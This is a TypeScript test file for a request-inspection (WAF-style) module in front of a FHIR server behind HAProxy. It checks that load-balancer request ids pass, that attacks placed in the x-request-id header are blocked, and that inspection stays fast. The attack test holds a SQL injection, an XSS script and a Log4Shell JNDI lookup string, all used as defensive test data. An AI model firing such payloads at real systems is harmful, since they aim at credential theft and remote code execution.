import { describe, expect, it } from 'vitest';
import { inspectRequest } from './request-inspection.js';

/** A FHIR read as HAProxy (src/cluster/haproxy-config.ts) hands it to a node, with the request id it makes. */
function behindHaproxy(requestId: string) {
  return inspectRequest({
    method: 'GET',
    url: '/fhir/R4/Patient/3f1c2a9e-8d7b-4c1a-9e2f-0a1b2c3d4e5f',
    httpVersion: '1.1',
    headers: [
      ['host', 'clinica.example.org'],
      ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36'],
      ['accept', 'application/fhir+json'],
      ['x-forwarded-proto', 'https'],
      ['x-request-id', requestId],
      ['x-forwarded-for', '203.0.113.9'],
    ],
    body: undefined,
    route: { url: '/fhir/R4/:type/:id', fhirSearch: false },
    publicHost: 'clinica.example.org',
  });
}

describe('the request id a load balancer adds', () => {
  it('passes as an id: HAProxy unique-ids, nginx $request_id, UUIDs', () => {
    for (const id of ['7F000001:B3A2_7F000001:1F90_6741F3A2_0001:4D2', 'C0A80105:D431_0A000002:01BB_67421234_00FF:1A2B', '0f1e2d3c4b5a69788796a5b4c3d2e1f0', '3f1c2a9e-8d7b-4c1a-9e2f-0a1b2c3d4e5f']) {
      const verdict = behindHaproxy(id);
      expect(verdict.score, `${id}: ${verdict.rules.join(' ')}`).toBe(0);
    }
  });

  it('is still read as text when it is not shaped like an id: an attack in it is blocked and located', () => {
    for (const payload of ["1' union select password from account--", '<script>alert(1)</script>', '${jndi:ldap://198.51.100.7/a}']) {
      const verdict = behindHaproxy(payload);
      expect(verdict.blocked, payload).toBe(true);
      expect(verdict.locations).toContain('header:x-request-id');
    }
  });

  it('costs a node little on every request although each id is new (no verdict to look up, none to keep)', () => {
    // Warm up, then time fresh ids against one repeated id: a fresh id used to cost a full read of
    // every rule (the request's inspection took 3–10× as long); now both are judged by the id's grammar alone.
    const fresh = (i: number) => `7F000001:${(i & 0xffff).toString(16).toUpperCase()}_7F000001:1F90_6741F3A2_${i.toString(16).toUpperCase().padStart(4, '0')}:4D2`;
    for (let i = 0; i < 2000; i++) behindHaproxy(fresh(i));
    const time = (id: (i: number) => string) => {
      const started = performance.now();
      for (let i = 0; i < 3000; i++) behindHaproxy(id(100_000 + i));
      return performance.now() - started;
    };
    const repeated = Math.min(time(() => fresh(1)), time(() => fresh(1)));
    const distinct = Math.min(time(fresh), time(fresh));
    expect(distinct).toBeLessThan(repeated * 1.8);
  });
});
